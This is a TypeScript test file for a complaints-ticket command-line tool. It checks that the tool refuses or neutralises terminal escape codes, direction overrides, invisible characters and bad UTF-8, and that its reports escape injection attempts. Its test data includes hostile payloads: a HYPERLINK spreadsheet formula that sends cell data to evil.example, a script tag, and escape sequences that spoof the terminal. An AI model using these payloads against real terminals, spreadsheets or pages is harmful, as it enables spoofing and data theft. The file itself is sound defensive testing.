import type Sqlite from 'better-sqlite3';
import { spawnSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sealTicket, unsealTicket } from '../../src/domain/personal.js';
import type { Ticket } from '../../src/domain/ticket.js';
import { sealerFor } from '../../src/store/personal-values.js';
import type { DeadlinesTable } from '../../src/store/schema.js';
import { rowTicket, ticketRow } from '../../src/store/ticket-rows.js';
import { cliEntry, type CliResult, logArgs, runCli, runOk, tempDbPath, testEnv } from '../support/cli.js';
import { KEY, startInTerminal, type Terminal } from '../support/pty.js';
import { unlockEvents } from '../support/events.js';
import { checkpoint, fileDigest, withRaw } from '../support/sqlite.js';
import { spawnCli } from '../support/writer.js';
import { parseCsv } from '../support/csv.js';

// Issue 9, items 3 and 4: hostile text. Typed text with escape codes, direction overrides, invisible
// names or bytes that are not UTF-8 is refused at the door; text already in a file (written by an
// older version, or edited with the sqlite3 shell) reaches no terminal with its controls intact; and
// CSV, Markdown and HTML reports keep unit names as text, never formulas or markup.

const ESC = '\u001b[2J\u001b[H';
const TITLE = '\u001b]0;pwned\u0007';
const RLO = 'invoice \u202Efdp.exe';
const ZERO_WIDTH = '\u200b\u200b\u200b';

/** Anything a terminal would act on, or that would reorder the line: C0 but LF and tab, DEL, C1, bidi. */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

function expectSafe(text: string, what: string): void {
  const m = UNSAFE.exec(text);
  expect(m === null ? null : `U+${m[0].codePointAt(0)!.toString(16).padStart(4, '0')} at ${m.index}: ${JSON.stringify(text.slice(Math.max(0, m.index - 30), m.index + 30))}`, what).toBeNull();
}

const OPEN = 'C2026-00001'; // assigned to Logistics, replied, open
const CLOSED = 'C2026-00002'; // closed

// Every free-text flag of every command, and --as: [flag, argv with the value in place]
const FIELDS: [string, (v: string) => string[]][] = [
  ['--name', (v) => [...logArgs({ name: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--email', (v) => [...logArgs({ email: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--phone', (v) => [...logArgs({ phone: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--address', (v) => [...logArgs({ address: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--org', (v) => [...logArgs({ org: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--subject', (v) => [...logArgs({ subject: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--description', (v) => [...logArgs({ description: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--demand', (v) => [...logArgs({ demand: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--product', (v) => [...logArgs({ product: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--batch', (v) => [...logArgs({ batch: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--unit', (v) => [...logArgs({ unit: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--to', (v) => [...logArgs({ unit: 'Logistics', to: v, at: '2026-11-20 12:00' }), '--yes']],
  ['--unit', (v) => ['assign', OPEN, '--unit', v, '--at', '2026-11-20 12:00']],
  ['--to', (v) => ['assign', OPEN, '--unit', 'Sales', '--to', v, '--at', '2026-11-20 12:00']],
  ['--message', (v) => ['reply', OPEN, '--via', 'phone', '--message', v, '--at', '2026-11-20 12:00']],
  ['--message', (v) => ['note', OPEN, '--message', v, '--at', '2026-11-20 12:00']],
  ['--reason', (v) => ['extend', OPEN, '--to', '2026-11-30', '--reason', v, '--at', '2026-11-20 12:00']],
  ['--resolution', (v) => ['close', OPEN, '--resolution', v, '--at', '2026-11-20 12:00']],
  ['--root-cause', (v) => ['close', OPEN, '--resolution', 'Delivered', '--root-cause', v, '--at', '2026-11-20 12:00']],
  ['--action', (v) => ['close', OPEN, '--resolution', 'Delivered', '--action', v, '--at', '2026-11-20 12:00']],
  ['--comment', (v) => ['survey', CLOSED, '--score', '4', '--comment', v, '--at', '2026-11-22 12:00']],
  ['--comment', (v) => ['survey', CLOSED, '--unreachable', '--comment', v, '--at', '2026-11-22 12:00']],
  ['--reason', (v) => ['reopen', CLOSED, '--reason', v, '--at', '2026-11-22 12:00']],
  ['--note', (v) => ['hold', OPEN, '--reason', 'other', '--note', v, '--at', '2026-11-20 12:00']],
  ['--search', (v) => ['list', '--search', v]],
  ['--unit', (v) => ['list', '--unit', v]],
  ['--assignee', (v) => ['list', '--assignee', v]],
  ['--unit', (v) => ['overdue', '--unit', v]],
  ['--unit', (v) => ['report', '--month', '2026-11', '--unit', v]],
  ['--as', (v) => ['--as', v, ...logArgs({ at: '2026-11-20 12:00' }), '--yes']],
];

const LONG_TEXT = new Set(['--description', '--demand', '--message', '--reason', '--resolution', '--root-cause', '--action', '--comment', '--note']);

/** [payload, what the one line must say beyond the field] */
type Payload = [string, RegExp];
const ESCAPE: Payload = [`Wang${ESC}Fang`, /control characters/];
const OVERRIDE: Payload = [RLO, /direction/];
const INVISIBLE: Payload = [ZERO_WIDTH, /invisible/];
const CARRIAGE_RETURN: Payload = ['Approved\rRejected', /one line/];
const C1_CSI: Payload = ['see \u009b31m red', /control characters/];

// [what, flag, runs of (argv, extra environment, expected wording)]
const cases: [string, string, [string[], NodeJS.ProcessEnv, RegExp][]][] = [];
for (const [flag, argv] of FIELDS) {
  const where = `${argv('x')[0] === '--as' ? '' : `${argv('x')[0]} `}${flag}`;
  const payloads = [ESCAPE, OVERRIDE, INVISIBLE, LONG_TEXT.has(flag) ? C1_CSI : CARRIAGE_RETURN];
  cases.push([`${where}: escape codes, a direction override, only zero-width spaces, ${LONG_TEXT.has(flag) ? 'a one-byte CSI' : 'a carriage return'}`, flag,
    payloads.map(([value, says]) => [argv(value), {}, says])]);
}
const LOG_NOW = [...logArgs({ at: '2026-11-20 12:00' }), '--yes'];
cases.push(['log --email: the escape from the issue, an override and a zero-width space inside an address', '--email', [
  [[...logArgs({ email: 'x\u001b[2J\u001b[H@evil.example', at: '2026-11-20 12:00' }), '--yes'], {}, /control characters/],
  [[...logArgs({ email: 'wang\u202e@example.cn', at: '2026-11-20 12:00' }), '--yes'], {}, /direction/],
  [[...logArgs({ email: 'wang\u200b@example.cn', at: '2026-11-20 12:00' }), '--yes'], {}, /not an email address/],
]]);
cases.push(['--as: a window-title escape with a bell, on a reading command too', '--as', [[['--as', TITLE, 'list'], {}, /control characters/]]]);
cases.push(['COMPLAINTS_USER: a window-title escape, an override, only zero-width spaces', 'COMPLAINTS_USER', [
  [LOG_NOW, { COMPLAINTS_USER: TITLE }, /control characters/],
  [LOG_NOW, { COMPLAINTS_USER: RLO }, /direction/],
  [['list'], { COMPLAINTS_USER: ZERO_WIDTH }, /invisible/],
]]);
cases.push(['log --subject: the replacement character that bad UTF-8 becomes', '--subject', [
  [FIELDS.find(([f]) => f === '--subject')![1]('W\uFFFDng'), {}, /not valid UTF-8/],
]]);

describe.concurrent('hostile text is refused at the door: exit 2, one safe line naming the field, nothing written', () => {
  const db = tempDbPath();
  let digest = '';

  beforeAll(() => {
    const ok = (args: string[]): void => void runOk(args, { db });
    ok([...logArgs({ at: '2026-11-20 10:00' }), '--yes']);
    ok([...logArgs({ name: 'Chen Jing', subject: 'Billed twice', category: 'billing', at: '2026-11-20 10:30' }), '--yes']);
    ok(['assign', OPEN, '--unit', 'Logistics', '--at', '2026-11-20 11:00']);
    ok(['reply', OPEN, '--via', 'phone', '--message', 'On its way', '--at', '2026-11-20 11:30']);
    ok(['close', CLOSED, '--resolution', 'Refunded', '--at', '2026-11-21 10:00']);
    checkpoint(db);
    digest = fileDigest(db);
  });

  it.each(cases)('%s', async (_what, flag, runs) => {
    for (const [args, env, says] of runs) {
      const p = spawnCli(args, db, env);
      const end = await p.exited;
      const stderr = p.stderr();
      const lines = stderr.split('\n').filter((l) => l !== '');
      expect({ status: end.code, lines: lines.length }, `${args.join(' ')}: ${stderr}`).toEqual({ status: 2, lines: 1 });
      expect(lines[0]).toMatch(/^error: /);
      expect(lines[0]).toContain(flag);
      expect(lines[0]).toMatch(says);
      expectSafe(stderr, 'stderr');
      expect(p.stdout()).toBe('');
      expect(fileDigest(db)).toBe(digest);
    }
  });

  it('names bytes that are not UTF-8 as such, in a flag and in COMPLAINTS_USER', () => {
    // Node reads invalid UTF-8 in argv and the environment as U+FFFD; a shell passes the raw byte.
    const raw = (script: string, args: string[]): CliResult => {
      const r = spawnSync('bash', ['-c', script, 'bash', process.execPath, cliEntry(), '--db', db, ...args], { env: testEnv(), encoding: 'utf8' });
      return { status: r.status, stdout: r.stdout, stderr: r.stderr };
    };
    const name = raw('exec "$@" "$(printf "W\\377ng")"', [...logArgs({ at: '2026-11-20 12:00' }), '--yes', '--name']);
    expect(name.status, name.stderr).toBe(2);
    expect(name.stderr).toMatch(/^error: --name: is not valid UTF-8[^\n]*\n$/);
    const user = raw('COMPLAINTS_USER="$(printf "clerk\\377")" exec "$@"', ['list']);
    expect(user.status, user.stderr).toBe(2);
    expect(user.stderr).toMatch(/^error: COMPLAINTS_USER: is not valid UTF-8[^\n]*\n$/);
    expect(fileDigest(db)).toBe(digest);
  });
});

describe('a prompt accepts exactly what the flag would', () => {
  const running: Terminal[] = [];
  afterAll(() => running.forEach((t) => t.kill()));

  it('refuses a direction override typed at the note prompt, saying why, and saves nothing', async () => {
    const db = tempDbPath();
    expect(runCli([...logArgs({ at: '2026-11-20 10:00' }), '--yes'], { db }).status).toBe(0);
    checkpoint(db);
    const before = fileDigest(db);
    const term = startInTerminal(['--db', db, 'note', 'C2026-00001', '--at', '2026-11-20 11:00']);
    running.push(term);
    await term.answer('Note', `invoice \u202efdp.exe${KEY.enter}`);
    await term.waitFor('--message: characters that change the text direction');
    term.type(KEY.ctrlC);
    const { status, screen } = await term.finished();
    expect(status, screen).toBe(1);
    expect(screen).not.toContain('Note added');
    checkpoint(db);
    expect(fileDigest(db)).toBe(before);
  }, 20_000);
});

describe('printable text is accepted and kept as typed, line breaks normalised', () => {
  it('keeps a description with CRLF and CR as LF lines, trims invisible edges, accepts formula-looking units', () => {
    const db = tempDbPath();
    const r = runCli([
      ...logArgs({ description: 'line one\r\nline two\rline three', name: '\u200bWang Fang\u200d', unit: '=HYPERLINK("http://evil.example/?"&A1,"click")', at: '2026-11-20 10:00' }),
      '--yes', '--json',
    ], { db, env: { COMPLAINTS_USER: '\ufeffclerk 1' } });
    expect(r.status, r.stderr).toBe(0);
    const doc = JSON.parse(r.stdout) as { description: string; complainant: { name: string }; unit: string; logged_by: string };
    expect(doc.description).toBe('line one\nline two\nline three');
    expect(doc.complainant.name).toBe('Wang Fang');
    expect(doc.unit).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(doc.logged_by).toBe('clerk 1');
    const show = runCli(['show', 'C2026-00001', '--as-of', '2026-11-20 12:00'], { db });
    expect(show.stdout).toMatch(/Description +line one\n +line two\n +line three\n/);
    expectSafe(show.stdout, 'show');
  });
});

// ---------------------------------------------------------------------------------------------
// Text already in the file: an older version accepted it, or someone edited the row by hand.

/**
 * A ticket edited behind the program as an insider would: its row, its deadline rows and its
 * personal values (sealed under the ticket's own key, so the program opens them) rewritten to
 * what `edit` made of the ticket as the office sees it.
 */
function plantInTicket(raw: Sqlite.Database, no: string, edit: (t: Record<string, any>) => void): void {
  const row = raw.prepare('SELECT * FROM tickets WHERE no = ?').get(no) as Parameters<typeof rowTicket>[0] & { id: number };
  const deadlines = raw.prepare('SELECT * FROM deadlines WHERE ticket_id = ?').all(row.id) as DeadlinesTable[];
  const values = raw.prepare('SELECT seal, value FROM personal_values WHERE ticket_id = ?').all(row.id) as { seal: string; value: string }[];
  const t = structuredClone(unsealTicket(rowTicket(row, deadlines), new Map(values.map((v) => [v.seal, v.value])))) as Ticket;
  edit(t as unknown as Record<string, any>);
  const key = raw.prepare('SELECT key FROM personal_keys WHERE ticket_id = ?').pluck().get(row.id) as Buffer;
  const kept = new Map<string, string>();
  const sealed = sealTicket(t, sealerFor(key), kept);
  const next = ticketRow(sealed, t) as unknown as Record<string, unknown>;
  const columns = Object.keys(next);
  raw.prepare(`UPDATE tickets SET ${columns.map((c) => `${c} = ?`).join(', ')} WHERE id = ?`).run(...columns.map((c) => next[c]), row.id);
  const keep = raw.prepare('INSERT OR REPLACE INTO personal_values (ticket_id, seal, value) VALUES (?, ?, ?)');
  for (const [seal, value] of kept) keep.run(row.id, seal, value);
  const clock = raw.prepare('UPDATE deadlines SET clock = ? WHERE ticket_id = ? AND key = ?');
  for (const [k, dl] of Object.entries(sealed.deadlines)) clock.run(dl.clock, row.id, k);
}

const HOSTILE = `${ESC}${TITLE}evil\rOVERWRITTEN \u202Egnp.exe\u202C \u009b31m red\u2066 x\u2069\u200e\u061c\u0000\u007f`;

describe('text planted in the file reaches no human output with its controls', () => {
  const db = tempDbPath();
  const AS_OF = '2026-10-20 10:00';

  beforeAll(() => {
    const ok = (args: string[]): void => void runOk(args, { db });
    ok([...logArgs({ unit: 'Logistics', to: 'Li Lei', description: 'Parcel lost', demand: 'Refund', product: 'Kettle', batch: 'B1', address: 'Road 1', org: 'Acme', email: 'w@example.cn', at: '2026-10-12 10:00' }), '--yes']);
    ok(['reply', 'C2026-00001', '--via', 'phone', '--message', 'Looking into it', '--at', '2026-10-12 14:00']);
    ok([...logArgs({ name: 'Chen Jing', unit: 'Finance', at: '2026-10-12 11:00' }), '--yes']);
    ok(['close', 'C2026-00002', '--resolution', 'Refunded', '--root-cause', 'Courier', '--action', 'New courier', '--at', '2026-10-13 10:00']);
    ok(['survey', 'C2026-00002', '--score', '2', '--comment', 'Slow', '--at', '2026-10-14 10:00']);
    ok([...logArgs({ name: 'Li Na', unit: 'Sales', at: '2026-10-12 12:00' }), '--yes']);
    ok(['hold', 'C2026-00003', '--reason', 'waiting-customer', '--note', 'Photos', '--at', '2026-10-12 13:00']);
    withRaw(db, (raw) => {
      unlockEvents(raw);
      // The sqlite3 shell can also be told to let text past the CHECK constraints (a deadline's clock).
      raw.pragma('ignore_check_constraints = ON');
      const h = (label: string): string => `${label} ${HOSTILE}`;
      plantInTicket(raw, 'C2026-00001', (t) => {
        Object.assign(t, { subject: h('subject'), description: h('description'), demand: h('demand'), product: h('product'), batch: h('batch'), unit: h('unit'), assignee: h('assignee'), loggedBy: h('clerk') });
        Object.assign(t.complainant, { name: h('name'), phone: h('phone'), email: h('email'), address: h('address'), org: h('org') });
        for (const dl of Object.values(t.deadlines) as { clock: string }[]) dl.clock = h('clock');
      });
      plantInTicket(raw, 'C2026-00002', (t) => {
        Object.assign(t, { unit: h('unit2'), resolution: h('resolution'), rootCause: h('root cause'), action: h('action') });
        t.survey.comment = h('comment');
      });
      plantInTicket(raw, 'C2026-00003', (t) => {
        Object.assign(t, { unit: h('unit3'), assignee: h('assignee3') });
        Object.assign(t.hold, { reason: h('hold'), note: h('note') });
      });
      raw.prepare('UPDATE events SET actor = ?').run(h('actor'));
      // The reply's message, where it is kept: beside the log, under the seal its event holds.
      const reply = raw.prepare("SELECT ticket_id, payload FROM events WHERE kind = 'replied'").get() as { ticket_id: number; payload: string };
      const seal = (JSON.parse(reply.payload) as { d: { message: { $p: string } } }).d.message.$p;
      expect(raw.prepare('UPDATE personal_values SET value = ? WHERE ticket_id = ? AND seal = ?').run(h('message'), reply.ticket_id, seal).changes).toBe(1);
      // A payload given a detail and a change no event kind has.
      const closed = raw.prepare("SELECT id, payload FROM events WHERE kind = 'closed'").get() as { id: number; payload: string };
      const payload = JSON.parse(closed.payload) as { d: Record<string, unknown>; s: Record<string, unknown> };
      raw.prepare('UPDATE events SET payload = ? WHERE id = ?').run(
        JSON.stringify({ ...payload, d: { ...payload.d, [h('key')]: h('value') }, s: { ...payload.s, [h('field')]: 'after' } }), closed.id,
      );
    });
  });

  const outputs: [string, string[]][] = [
    ['show (open, planted contact and text)', ['show', 'C2026-00001', '--as-of', AS_OF]],
    ['show (closed, planted resolution and survey)', ['show', 'C2026-00002', '--as-of', AS_OF]],
    ['show (on hold, planted reason)', ['show', 'C2026-00003', '--as-of', AS_OF]],
    ['show --explain', ['show', 'C2026-00001', '--explain', '--as-of', AS_OF]],
    ['show --explain (on hold)', ['show', 'C2026-00003', '--explain', '--as-of', AS_OF]],
    ['list', ['list', '--as-of', AS_OF]],
    ['list --search', ['list', '--search', 'evil', '--as-of', AS_OF]],
    ['overdue', ['overdue', '--as-of', AS_OF]],
    ['report (table)', ['report', '--month', '2026-10', '--as-of', AS_OF]],
    ['report --format md', ['report', '--month', '2026-10', '--as-of', AS_OF, '--format', 'md']],
    ['report --format html', ['report', '--month', '2026-10', '--as-of', AS_OF, '--format', 'html']],
    ['verify', ['verify']],
  ];

  it.each(outputs)('%s', (_what, args) => {
    // Wide enough that no table wraps the planted word across two lines of its cell.
    const r = runCli(args, { db, env: { COLUMNS: '400' } });
    expect(r.stderr, r.stderr).not.toMatch(/unexpected/);
    // The planted text does reach the output, neutralised: not dropped, not raw.
    expect(r.stdout).toContain('pwned');
    expectSafe(r.stdout, 'stdout');
    expectSafe(r.stderr, 'stderr');
  });

  it('report --format csv: only CRLF record ends, no other control or override', () => {
    const r = runCli(['report', '--month', '2026-10', '--as-of', AS_OF, '--format', 'csv'], { db });
    expect(r.stdout).toContain('pwned');
    expect(r.stdout).not.toMatch(/\r(?!\n)/);
    expectSafe(r.stdout.replace(/\r\n/g, '\n'), 'stdout');
  });

  it('show --json keeps the planted text exact, with every control and override escaped', () => {
    const r = runCli(['show', 'C2026-00001', '--json', '--as-of', AS_OF], { db });
    expect(r.status, r.stderr).toBe(0);
    expectSafe(r.stdout, 'stdout');
    const doc = JSON.parse(r.stdout) as { subject: string; events: { actor: string }[] };
    expect(doc.subject).toBe(`subject ${HOSTILE}`);
    expect(doc.events[0]!.actor).toBe(`actor ${HOSTILE}`);
  });

  it('an error line quoting the stored ticket quotes its own number, whatever was planted beside it', () => {
    const other = tempDbPath();
    expect(runCli([...logArgs({ at: '2026-10-12 10:00' }), '--yes'], { db: other }).status).toBe(0);
    expect(runCli(['close', 'C2026-00001', '--resolution', 'Done', '--at', '2026-10-13 10:00'], { db: other }).status).toBe(0);
    withRaw(other, (raw) => {
      // A number planted in the row's `rest`: the column, by which the row is found, is the one read.
      const rest = JSON.parse(raw.prepare('SELECT rest FROM tickets').pluck().get() as string) as Record<string, unknown>;
      raw.prepare('UPDATE tickets SET rest = ?').run(JSON.stringify({ ...rest, no: `C2026-00001 ${HOSTILE}` }));
    });
    const r = runCli(['reply', 'C2026-00001', '--via', 'phone', '--message', 'Hello', '--at', '2026-10-14 10:00'], { db: other });
    expect(r.status).toBe(1);
    expect(r.stderr).toBe('error: cannot reply C2026-00001: it is closed (a second complaint is `reopen C2026-00001 --reason ...`)\n');
    const v = runCli(['verify'], { db: other });
    expect(v.status).toBe(1);
    expectSafe(v.stdout, 'stdout');
    expect(v.stdout).toContain('ticket C2026-00001: no is ');
  });
});

// ---------------------------------------------------------------------------------------------
// Spreadsheet and markup injection: unit names are printable text, so they are accepted; each
// report format must keep them text.

const UNITS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(1)',
  '<script>alert(1)</script>',
  'Sales | Returns',
  '`code` \\ *bold* [link](http://evil.example)',
  '# Heading',
];
const PLANTED_UNIT = `Planted ${ESC}\u202Eunit`;

describe('report cells keep hostile unit names as text', () => {
  const db = tempDbPath();
  const report = (format: string): string => {
    const r = runCli(['report', '--month', '2026-10', '--as-of', '2026-11-20 10:00', '--format', format], { db });
    expect(r.status, r.stderr).toBe(0);
    return r.stdout;
  };

  beforeAll(() => {
    UNITS.forEach((unit, i) => {
      const at = `2026-10-${String(10 + i).padStart(2, '0')} 10:00`;
      // Half come in with log --unit, half with assign --unit.
      const r = i % 2 === 0
        ? runCli([...logArgs({ unit, at }), '--yes'], { db })
        : runCli([...logArgs({ at }), '--yes'], { db });
      expect(r.status, r.stderr).toBe(0);
      if (i % 2 === 1) {
        const a = runCli(['assign', `C2026-0000${i + 1}`, '--unit', unit, '--at', at.replace('10:00', '11:00')], { db });
        expect(a.status, a.stderr).toBe(0);
      }
    });
    // An older file's unit with an escape and a direction override.
    expect(runCli([...logArgs({ unit: 'Planted', at: '2026-10-20 10:00' }), '--yes'], { db }).status).toBe(0);
    withRaw(db, (raw) => raw.prepare("UPDATE tickets SET unit = ? WHERE unit = 'Planted'").run(PLANTED_UNIT));
  });

  it('csv: formulas start with a quote mark, numbers stay numbers, no control characters', () => {
    const out = report('csv');
    expectSafe(out.replace(/\r\n/g, '\n'), 'csv');
    const sections = out.slice(1).split('\r\n\r\n').map(parseCsv);
    const byUnit = sections.find((s) => s[0]![0] === 'By unit')!;
    const names = byUnit.slice(2).map((row) => row[0]);
    expect(names).toEqual(expect.arrayContaining([
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+SUM(1+1)", "'-2+3", "'@SUM(1)", '<script>alert(1)</script>', 'Sales | Returns',
    ]));
    for (const row of byUnit.slice(2)) expect(row[1]).toBe('1'); // received: a number, as it was
    for (const s of sections) {
      for (const row of s) for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell) && !/^-?[\d,.]+%?$/.test(cell), cell).toBe(false);
    }
  });

  it('md: pipes, markup and code are escaped, every row has its columns, no control characters', () => {
    const out = report('md');
    expectSafe(out, 'md');
    expect(out).not.toMatch(/<script|<\/script/);
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(out).toContain('Sales \\| Returns');
    expect(out).toContain('\\`code\\` \\\\ \\*bold\\* \\[link\\](http://evil.example)');
    const table = out.split('## By unit')[1]!.split('\n## ')[0]!.trim().split('\n').filter((l) => l.startsWith('|'));
    const columns = (line: string): number => line.replace(/\\\\/g, '').replace(/\\\|/g, '').split('|').length;
    for (const line of table) expect(columns(line), line).toBe(columns(table[0]!));
    expect(table.length).toBe(2 + UNITS.length + 1);
  });

  it('html: every unit escaped as text, no control characters or overrides', () => {
    const out = report('html');
    expectSafe(out, 'html');
    expect(out).not.toMatch(/<script/i);
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(out).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)');
  });
});
